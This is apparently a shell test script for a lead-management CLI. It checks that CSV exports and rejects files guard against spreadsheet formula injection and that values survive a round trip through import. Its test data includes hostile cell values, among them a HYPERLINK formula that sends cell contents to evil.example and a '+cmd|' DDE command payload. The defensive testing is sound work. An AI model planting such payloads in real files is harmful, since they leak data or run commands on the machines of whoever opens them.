#!/bin/sh
# Output is data, never commands: every CSV is safe to open in a
# spreadsheet, and a rejects file imports back as it was.
. "$(dirname "$0")/../lib.sh"
export CALLQ_NOW=$daytime

db=$scratch/out.db
cq() { "$bin" --db "$db" "$@"; }
cq init >/dev/null
cq region add East --country US >/dev/null

# --- Exports are safe to open in a spreadsheet -------------------------

n=100
for name in '=HYPERLINK("http://evil.example/?"&A1,"Click")' \
    "+cmd|' /C calc'!A0" '@SUM(A1)' '-2+3' 'Tab' 'Street'; do
	n=$((n + 1))
	cq lead add --name "$name" --phone "+1 212-736-0$n" --region East \
	    >/dev/null
done
# Values only an older database holds, as the input refuses them now.
sqlite3 "$db" "UPDATE leads SET name = char(9) || 'Tab first'
    WHERE phone_e164 = '+12127360105';
    UPDATE leads SET street = char(13) || 'CR first'
    WHERE phone_e164 = '+12127360106'"
cq lead list --format csv >"$scratch/leads.csv"
cq lead list --format json >"$scratch/leads.json"
has() { grep -qF -- "$2" "$1"; }	# $1 file, $2 text
ok "a formula in a name is written with a ' before it" has \
    "$scratch/leads.csv" "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"
guarded() {
	has "$scratch/leads.csv" "'+cmd|' /C calc'!A0," &&
	    has "$scratch/leads.csv" "'@SUM(A1)," &&
	    has "$scratch/leads.csv" "'-2+3,"
}
ok "... and so is +cmd, @SUM and -2+3" guarded
ok "a phone's display form is no number: it gets the ' too" \
    has "$scratch/leads.csv" ",'+1 212-736-0102,+12127360102,"
ok "a number stays as it is" has "$scratch/leads.csv" ",+12127360103,"
ok "a value starting with a tab is guarded inside its quotes" \
    grep -qP "^\\d+,\"'\\tTab first\"," "$scratch/leads.csv"
id2=$(grep -F '"+12127360106"' "$scratch/leads.json" |
    sed 's/.*"id": \([0-9]*\).*/\1/')
cq lead show "$id2" --format csv >"$scratch/show.csv"
ok "... and one starting with a carriage return" \
    grep -qP "^street,\"'\\rCR first\"" "$scratch/show.csv"
exact() {
	has "$scratch/leads.json" \
	    '"name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"' &&
	    has "$scratch/leads.json" "\"name\": \"+cmd|' /C calc'!A0\"" &&
	    has "$scratch/leads.json" '"name": "\tTab first"'
}
ok "JSON stays exact" exact

cq dnc add "+1 212 736 0199" --reason '@evil' >/dev/null
cq choice add source '=cmd' >/dev/null
cq user add cqx --name '+SUM(1)' --role rep >/dev/null
cq stage add '=1+1' >/dev/null
lists() {
	cq dnc list --format csv | grep -qF ",'@evil," &&
	    cq choice list source --format csv | grep -qF ",'=cmd," &&
	    cq user list --format csv | grep -qF ",'+SUM(1)," &&
	    cq stage list --format csv | grep -qF ",'=1+1,"
}
ok "every list's CSV is guarded: dnc, choices, users, stages" lists
cq lead list --format csv --output "$scratch/export.csv"
ok "--output writes the same guarded CSV" cmp -s "$scratch/export.csv" \
    "$scratch/leads.csv"

# The rejects file: what a spreadsheet would run is guarded, and fixing
# the phones and importing it again gives each name back as it was. A
# field guarded already (by callq, or a spreadsheet's export) reads
# without its '.
{
	printf 'Name,Formatted phone number,Country\r\n'
	printf '"=HYPERLINK(""http://evil.example"")",+1 555 0101,US\r\n'
	printf '@SUM(A1),+1 555 0102,US\r\n'
	printf '%s,+1 555 0103,US\r\n' "'=quoted already"
	printf -- '-2+3,+1 555 0104,US\r\n'
} >"$scratch/hostile.csv"
cq import "$scratch/hostile.csv" --region East >/dev/null 2>&1
rej=$scratch/hostile.rejects.csv
rejects_guarded() {
	has "$rej" "\"'=HYPERLINK(\"\"http://evil.example\"\")\",'+1 555 0101," &&
	    has "$rej" "'@SUM(A1),'+1 555 0102," &&
	    has "$rej" "'=quoted already,'+1 555 0103," &&
	    has "$rej" "'-2+3,'+1 555 0104,"
}
ok "the rejects file guards the names a spreadsheet would run" \
    rejects_guarded
sed 's/+1 555 01/+1 646 736 01/' "$rej" >"$scratch/fixed.csv"
cq import "$scratch/fixed.csv" --region East >/dev/null 2>&1
cq lead list --search 646 --format json >"$scratch/fixed.json"
round_trip() {
	has "$scratch/fixed.json" \
	    '"name": "=HYPERLINK(\"http://evil.example\")"' &&
	    has "$scratch/fixed.json" '"name": "@SUM(A1)"' &&
	    has "$scratch/fixed.json" '"name": "=quoted already"' &&
	    has "$scratch/fixed.json" '"name": "-2+3"'
}
ok "... and imports back as it was" round_trip
printf "Phone\r\n'+1 212 736 0150\r\n" >"$scratch/dnc.csv"
cq dnc import "$scratch/dnc.csv" >/dev/null 2>&1
ok "dnc import reads a guarded number" sh -c \
    "'$bin' --db '$db' dnc list --format csv | grep -q '^+12127360150,'"

finish
